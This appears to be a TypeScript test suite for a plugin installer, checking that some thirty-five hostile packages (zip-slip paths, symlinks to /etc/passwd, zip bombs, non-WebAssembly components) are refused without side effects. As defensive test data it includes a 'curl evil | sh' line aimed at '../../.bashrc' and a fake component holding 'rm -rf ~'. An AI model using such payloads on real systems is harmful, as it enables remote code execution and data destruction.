// The hostile package corpus: every package here must be refused with a message that
// says what is wrong, write nothing outside the staging area (which must be gone
// afterwards), and leave the catalog and the running plugins exactly as they were.
import { mkdir, mkdtemp, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { InstallSource } from './stage-package.ts';
import { buildRawZip, type RawZipEntry } from './test-support/raw-zip.ts';
import { catalogSnapshot, dataDirListing, fixtureComponent, fixturePackage, ServicesHarness, versionedPackage } from './test-support/services.ts';

const MB = 1024 * 1024;
let work: string;
let harness: ServicesHarness;
let component: Uint8Array;
let lyricsComponent: Uint8Array;
let caseCount = 0;

/** A valid manifest for the versioned component under a new id and ability, with `changes` applied. */
function manifest(changes: Record<string, unknown> = {}, componentChanges: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    schema_version: 1,
    id: 'org.hostile.package',
    name: 'Hostile package',
    version: '1.0.0',
    api_version: '0.1.0',
    engines: { fugue: '>=0.1.0' },
    components: [
      {
        id: 'lyrics',
        path: 'lyrics.wasm',
        world: 'lyrics-plugin',
        abilities: [{ kind: 'lyrics', type_id: 'hostile', display_name: 'Hostile' }],
        ...componentChanges,
      },
    ],
    ...changes,
  };
}

const text = (value: string | object) => new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value));
const manifestEntry = (value: string | object = manifest()): RawZipEntry => ({ name: 'plugin.json', data: text(value) });
const componentEntry = (): RawZipEntry => ({ name: 'lyrics.wasm', data: component, deflate: true });

async function zip(name: string, entries: RawZipEntry[]): Promise<InstallSource> {
  const file = join(work, `${name}.zip`);
  await writeFile(file, buildRawZip(entries));
  return { kind: 'path', path: file };
}

/** A folder package holding `files`, then changed by `after` (links, pipes). */
async function folder(name: string, files: Record<string, Uint8Array>, after: (dir: string) => Promise<void> = async () => {}): Promise<InstallSource> {
  const dir = join(work, name);
  await mkdir(dir, { recursive: true });
  for (const [path, data] of Object.entries(files)) await writeFile(join(dir, path), data);
  await after(dir);
  return { kind: 'path', path: dir };
}

interface HostileCase {
  name: string;
  source: () => Promise<InstallSource>;
  problem: string | RegExp;
}

const cases: HostileCase[] = [
  { name: 'zip-slip with ../', source: () => zip('slip', [manifestEntry(), componentEntry(), { name: '../../.bashrc', data: text('curl evil | sh') }]), problem: 'entry "../../.bashrc" contains a ".." segment; every file must stay inside the package root' },
  { name: 'zip-slip hidden mid-path', source: () => zip('slip-mid', [manifestEntry(), componentEntry(), { name: 'lib/../../../evil.sh', data: text('x') }]), problem: 'entry "lib/../../../evil.sh" contains a ".." segment' },
  { name: 'zip-slip behind ./', source: () => zip('slip-dot', [manifestEntry(), componentEntry(), { name: './../evil', data: text('x') }]), problem: 'entry "./../evil" contains a ".." segment' },
  { name: 'absolute entry name', source: () => zip('absolute', [manifestEntry(), componentEntry(), { name: '/etc/cron.d/evil', data: text('x') }]), problem: 'entry "/etc/cron.d/evil" is absolute' },
  { name: 'drive-letter entry name', source: () => zip('drive', [manifestEntry(), componentEntry(), { name: 'C:/Windows/evil.dll', data: text('x') }]), problem: 'entry "C:/Windows/evil.dll" starts with a drive letter' },
  { name: 'backslash entry name', source: () => zip('backslash', [manifestEntry(), componentEntry(), { name: '..\\..\\evil.dll', data: text('x') }]), problem: 'entry "..\\..\\evil.dll" uses a backslash' },
  { name: 'symlink entry in a zip', source: () => zip('symlink', [manifestEntry(), { name: 'lyrics.wasm', data: text('/etc/passwd'), unixMode: 0o120777 }]), problem: 'entry "lyrics.wasm" is a symbolic link; a package may hold only regular files and folders' },
  { name: 'device entry in a zip', source: () => zip('device', [manifestEntry(), componentEntry(), { name: 'tty', unixMode: 0o020666 }]), problem: 'entry "tty" is a device, pipe or socket' },
  { name: 'encrypted entry', source: () => zip('encrypted', [manifestEntry(), { ...componentEntry(), flags: 0x1 }]), problem: 'entry "lyrics.wasm" is encrypted' },
  { name: 'names differing only in case', source: () => zip('case', [manifestEntry(), componentEntry(), { ...componentEntry(), name: 'LYRICS.wasm' }]), problem: 'entry "LYRICS.wasm" has the same name as "lyrics.wasm" (ignoring case)' },
  { name: 'symlink in a folder', source: () => folder('folder-symlink', { 'plugin.json': text(manifest()) }, (dir) => symlink('/etc/passwd', join(dir, 'lyrics.wasm'))), problem: '"lyrics.wasm" is a symbolic link; a package may hold only regular files and folders' },
  { name: 'symlinked sub-folder in a folder', source: () => folder('folder-dirlink', { 'plugin.json': text(manifest()), 'lyrics.wasm': component }, (dir) => symlink('/etc', join(dir, 'etc'))), problem: '"etc" is a symbolic link' },
  { name: 'named pipe in a folder', source: () => folder('folder-fifo', { 'plugin.json': text(manifest()), 'lyrics.wasm': component }, async (dir) => void (await execa('mkfifo', [join(dir, 'pipe')]))), problem: '"pipe" is a device, pipe or socket' },
  { name: 'zip bomb by declared size', source: () => zip('bomb-size', [manifestEntry(), componentEntry(), { name: 'a.bin', deflate: true, declaredUncompressedSize: 150 * MB }, { name: 'b.bin', deflate: true, declaredUncompressedSize: 150 * MB }]), problem: 'holds more than 200 MB of files, the limit for a package' },
  { name: 'zip bomb by ratio', source: () => zip('bomb-ratio', [manifestEntry(), componentEntry(), { name: 'zeros.bin', data: new Uint8Array(8 * MB), deflate: true }]), problem: /entry "zeros\.bin" expands \d+:1, past the 100:1 compression-ratio limit; a package this compressible looks like a zip bomb/ },
  { name: 'entry that inflates past its declared size', source: () => zip('liar', [manifestEntry(), componentEntry(), { name: 'small.bin', data: new Uint8Array(200_000).fill(7), deflate: true, declaredUncompressedSize: 1000 }]), problem: '"small.bin" could not be extracted: damaged entry in the package: too many bytes in the stream' },
  { name: 'tens of thousands of entries', source: () => zip('many', [manifestEntry(), componentEntry(), ...Array.from({ length: 20_000 }, (_, i) => ({ name: `f/${i}.txt` }))]), problem: 'has more than 1000 files and folders, the limit for a package' },
  { name: 'manifest missing', source: () => zip('no-manifest', [componentEntry()]), problem: 'plugin.json: not found at the package root; add a plugin.json beside the component files' },
  { name: 'manifest one folder down (zipped the folder)', source: () => zip('nested', [{ ...manifestEntry(), name: 'hostile/plugin.json' }, { ...componentEntry(), name: 'hostile/lyrics.wasm' }]), problem: 'not found at the package root, but "hostile/plugin.json" exists; zip the contents of the plugin folder, not the folder itself' },
  { name: 'manifest is invalid JSON', source: () => zip('bad-json', [manifestEntry('{ "id": '), componentEntry()]), problem: /^plugin\.json: is not valid JSON at line 1/ },
  { name: 'manifest is not UTF-8', source: () => zip('latin1', [{ name: 'plugin.json', data: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]) }, componentEntry()]), problem: 'plugin.json: is not UTF-8 text; save it as UTF-8' },
  { name: 'manifest oversized', source: () => zip('big-manifest', [manifestEntry(manifest({ description: 'x'.repeat(2 * MB) })), componentEntry()]), problem: /plugin\.json: is 2(\.0)? MB; a manifest may be at most 1 MB/ },
  { name: 'wrong schema_version', source: () => zip('schema', [manifestEntry(manifest({ schema_version: 2 })), componentEntry()]), problem: 'schema_version: 2 is not supported; this version of Fugue reads schema_version 1' },
  { name: 'component path escaping the root', source: () => zip('escape', [manifestEntry(manifest({}, { path: '../lyrics.wasm' })), componentEntry()]), problem: /components\[0\]\.path: .*contains a "\.\." segment/ },
  { name: 'absolute component path', source: () => zip('abs-path', [manifestEntry(manifest({}, { path: '/usr/lib/lyrics.wasm' })), componentEntry()]), problem: /components\[0\]\.path: .*is absolute/ },
  { name: 'component that is not WebAssembly', source: () => zip('not-wasm', [manifestEntry(), { name: 'lyrics.wasm', data: text('#!/bin/sh\nrm -rf ~') }]), problem: 'components[0].path: "lyrics.wasm" is not a WebAssembly file' },
  { name: 'truncated component', source: () => zip('truncated', [manifestEntry(), { name: 'lyrics.wasm', data: component.slice(0, component.length >> 1) }]), problem: /components\[0\]\.(path|world): .*lyrics\.wasm/ },
  { name: 'core module instead of a component', source: () => zip('core', [manifestEntry(), { name: 'lyrics.wasm', data: new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]) }]), problem: 'is a core WebAssembly module, not a component' },
  { name: 'component of another world', source: () => zip('world', [manifestEntry(manifest({}, { world: 'dsp-plugin', abilities: [{ kind: 'dsp', type_id: 'hostile', display_name: 'Hostile' }] })), componentEntry()]), problem: 'does not export fugue:plugin/dsp@0.1.0, which world dsp-plugin requires' },
  { name: 'unsupported WIT version', source: () => zip('wit-version', [manifestEntry(manifest({ api_version: '0.9.0' })), componentEntry()]), problem: /0\.9\.0/ },
  { name: 'engines range excluding this host', source: () => zip('engines', [manifestEntry(manifest({ engines: { fugue: '>=99.0.0' } })), componentEntry()]), problem: 'engines.fugue: this plugin needs Fugue >=99.0.0, and this is Fugue 0.1.0' },
  { name: 'an installed id at a lower version', source: async () => ({ kind: 'path', path: await versionedPackage('1.5.0', work) }), problem: 'org.fugue.fixture.versioned 1.5.0 is older than the installed 2.0.0; to go back to it, install again allowing a downgrade (--allow-downgrade)' },
  { name: 'an ability another installed plugin provides', source: () => zip('ability', [manifestEntry(manifest({}, { abilities: [{ kind: 'lyrics', type_id: 'words', display_name: 'Words again' }] })), { name: 'lyrics.wasm', data: lyricsComponent }]), problem: 'the lyrics ability "words" of component "lyrics" is already provided by the installed plugin org.fugue.fixture.lyrics; uninstall that plugin first, or give the ability another type_id' },
  { name: 'upload that is not a zip', source: async () => ({ kind: 'bytes', bytes: text('<html>not a zip</html>'), name: 'plugin.zip' }), problem: 'package: the upload "plugin.zip" is not a readable .zip file' },
  { name: 'path that does not exist', source: async () => ({ kind: 'path', path: join(work, 'missing.zip') }), problem: 'does not exist; pass a plugin folder or a .zip' },
];

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'fugue-hostile-'));
  component = await fixtureComponent('versioned-lyrics');
  lyricsComponent = await fixtureComponent('world-lyrics');
  harness = await ServicesHarness.create();
  await harness.installer.install({ kind: 'path', path: await fixturePackage('world-lyrics') });
  await harness.installer.install({ kind: 'path', path: await versionedPackage('2.0.0', work) });
});
afterAll(async () => {
  await harness.dispose();
  await rm(work, { recursive: true, force: true });
});

describe('hostile packages are refused and change nothing', () => {
  it.each(cases)('$name', async ({ source, problem }) => {
    caseCount++;
    const input = await source();
    const before = { files: await dataDirListing(harness.dataDir), catalog: catalogSnapshot(harness.dataDir), running: harness.host.running() };
    const failure = await harness.installer.install(input).then(
      () => new Error('installed'),
      (error: unknown) => error as Error,
    );
    if (process.env.SHOW_MESSAGES) console.log(`${input.kind}: ${failure.message}`);
    expect(failure.message).toMatch(typeof problem === 'string' ? new RegExp(escape(problem)) : problem);
    expect(await readdir(join(harness.dataDir, 'staging'))).toEqual([]);
    expect(await dataDirListing(harness.dataDir)).toEqual(before.files);
    expect(catalogSnapshot(harness.dataDir)).toEqual(before.catalog);
    expect(harness.host.running()).toEqual(before.running);
    expect(await harness.host.call('org.fugue.fixture.versioned', 'lyrics', 'find', [{ title: 'still' }])).toMatchObject({ provider: 'versioned@2.0.0' });
  });

  it('covers at least 25 cases, and the same package without the hostile change installs', async () => {
    expect(caseCount).toBeGreaterThanOrEqual(25);
    const control = await zip('control', [manifestEntry(), componentEntry()]);
    expect(await harness.installer.install(control)).toMatchObject({ pluginId: 'org.hostile.package', action: 'installed' });
  });
});

function escape(value: string): string {
  return value.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
